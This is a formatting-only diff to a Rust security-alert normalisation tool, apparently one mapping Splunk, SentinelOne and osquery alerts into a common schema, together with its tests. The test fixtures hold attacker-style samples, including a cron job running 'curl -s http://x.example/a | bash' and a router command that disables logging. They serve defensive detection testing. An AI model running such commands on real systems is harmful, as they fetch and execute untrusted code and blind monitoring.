@@ -510,7 +510,11 @@ fn splunk_row(row: Map<String, Json>) -> Map<String, Json> {
     let mut out = Map::new();
     let mut dotted = Vec::new();
     for (k, v) in row {
-        let k = if k.contains("{}") { k.replace("{}", "") } else { k };
+        let k = if k.contains("{}") {
+            k.replace("{}", "")
+        } else {
+            k
+        };
         if k.contains('.') {
             dotted.push((k, v));
         } else {
@@ -937,7 +941,8 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
     };
     // A network device's configuration session (the commands an account typed, T1059.008):
     // the commands are the content, one per line.
-    let device_cli = cmd.is_none() && text("process_name").is_none() && text("parent_process_name").is_none();
+    let device_cli =
+        cmd.is_none() && text("process_name").is_none() && text("parent_process_name").is_none();
     let cmd = match (device_cli, r.get("command")) {
         (true, Some(Json::String(c))) if !c.is_empty() => Some(c.clone()),
         (true, Some(Json::Array(all))) if !all.is_empty() => Some(
@@ -1090,7 +1095,11 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
     }
     // A device's privilege level (Cisco's 15 is full administration).
     if let Some(l) = text("privilege_level") {
-        set_path(&mut e, "user.roles", serde_json::json!([format!("privilege {l}")]));
+        set_path(
+            &mut e,
+            "user.roles",
+            serde_json::json!([format!("privilege {l}")]),
+        );
     }
     Some(e)
 }
@@ -2515,8 +2524,10 @@ mod tests {
         assert_eq!(star.doc["user"]["name"], "rsingh");
         assert_eq!(star.doc["host"]["os"]["type"], "macos");
         // The target's image path as documented, or the target in the source's field names.
-        for target in [json!({"tgtProcImagePath": "/usr/bin/osascript", "tgtProcCmdLine": "osascript -e 1"}),
-                       json!({"filePath": "/usr/bin/osascript", "commandline": "osascript -e 1"})] {
+        for target in [
+            json!({"tgtProcImagePath": "/usr/bin/osascript", "tgtProcCmdLine": "osascript -e 1"}),
+            json!({"filePath": "/usr/bin/osascript", "commandline": "osascript -e 1"}),
+        ] {
             let a = from_json(json!({"alertInfo": {"alertId": "s1-10"},
                 "sourceProcessInfo": {"commandline": "/Volumes/C/C.app/Contents/MacOS/C", "filePath": "/Volumes/C/C.app/Contents/MacOS/C", "user": "mb"},
                 "targetProcessInfo": target}), "x").unwrap();
@@ -2627,7 +2638,11 @@ mod tests {
             {"$id": "2", "Type": "process", "CommandLine": "osascript -e x", "ImageFile": {"$id": "3", "Type": "file", "Name": "osascript", "Directory": "/usr/bin"}},
             {"$id": "4", "Type": "process", "CommandLine": "/bin/sh -c launchctl load y",
                 "ParentProcess": {"$id": "5", "Type": "process", "CommandLine": "/usr/libexec/security_authtrampoline /bin/sh auth 3 -c launchctl load y"}}]).to_string();
-        let two = from_json(json!({"SystemAlertId": "sa-2", "AlertName": "x", "Entities": entities}), "x").unwrap();
+        let two = from_json(
+            json!({"SystemAlertId": "sa-2", "AlertName": "x", "Entities": entities}),
+            "x",
+        )
+        .unwrap();
         assert_eq!(two.doc["process"]["name"], "osascript");
         assert_eq!(
             two.doc["process"]["command_line"],
@@ -2672,7 +2687,10 @@ mod tests {
         // LaunchAgent through launchd as the user whose Library holds it.
         let cron = from_json(json!({"name": "crontab", "hostIdentifier": "ci-7", "calendarTime": "x", "action": "added",
             "columns": {"minute": "*/15", "command": "curl -s http://x.example/a | bash", "path": "/var/spool/cron/crontabs/jenkins"}}), "x").unwrap();
-        assert_eq!(cron.doc["process"]["command_line"], "/bin/sh -c curl -s http://x.example/a | bash");
+        assert_eq!(
+            cron.doc["process"]["command_line"],
+            "/bin/sh -c curl -s http://x.example/a | bash"
+        );
         assert_eq!(cron.doc["process"]["name"], "sh");
         assert_eq!(cron.doc["process"]["parent"]["name"], "cron");
         assert_eq!(cron.doc["user"]["name"], "jenkins");
@@ -2810,7 +2828,10 @@ mod tests {
         let dev = from_json(json!({"search_name": "Network - Config Change - Rule", "dest": "rtr-1", "user": "cs",
             "privilege_level": "15", "src": "203.0.113.45", "command": ["interface Tunnel9", "no logging host 10.1.1.1"],
             "annotations.mitre_attack": ["T1059.008"]}), "x").unwrap();
-        assert_eq!(dev.doc["process"]["command_line"], "interface Tunnel9\nno logging host 10.1.1.1");
+        assert_eq!(
+            dev.doc["process"]["command_line"],
+            "interface Tunnel9\nno logging host 10.1.1.1"
+        );
         assert_eq!(dev.doc["source"]["ip"], "203.0.113.45");
         assert_eq!(dev.doc["user"]["roles"], json!(["privilege 15"]));
         assert_eq!(dev.doc["host"]["name"], "rtr-1");
@@ -2820,10 +2841,22 @@ mod tests {
             "host": "SQL-4", "EventCode": "1", "Image": "C:\\Windows\\System32\\cscript.exe", "CommandLine": "cscript.exe //NoLogo a.vbs",
             "ParentImage": "C:\\Program Files\\NSClient++\\nscp.exe", "ParentCommandLine": "nscp.exe service", "CurrentDirectory": "C:\\x\\",
             "User": "NT AUTHORITY\\SYSTEM", "process_name": "cscript.exe", "parent_process_name": "nscp.exe"}}), "x").unwrap();
-        assert_eq!(sy.doc["process"]["command_line"], "cscript.exe //NoLogo a.vbs");
-        assert_eq!(sy.doc["process"]["executable"], "C:\\Windows\\System32\\cscript.exe");
-        assert_eq!(sy.doc["process"]["parent"]["executable"], "C:\\Program Files\\NSClient++\\nscp.exe");
-        assert_eq!(sy.doc["process"]["parent"]["command_line"], "nscp.exe service");
+        assert_eq!(
+            sy.doc["process"]["command_line"],
+            "cscript.exe //NoLogo a.vbs"
+        );
+        assert_eq!(
+            sy.doc["process"]["executable"],
+            "C:\\Windows\\System32\\cscript.exe"
+        );
+        assert_eq!(
+            sy.doc["process"]["parent"]["executable"],
+            "C:\\Program Files\\NSClient++\\nscp.exe"
+        );
+        assert_eq!(
+            sy.doc["process"]["parent"]["command_line"],
+            "nscp.exe service"
+        );
         assert_eq!(sy.doc["process"]["working_directory"], "C:\\x\\");
         assert_eq!(sy.doc["user"]["name"], "SYSTEM");
         // A search over JSON events (eslogger): dotted and `{}` names nested back into the
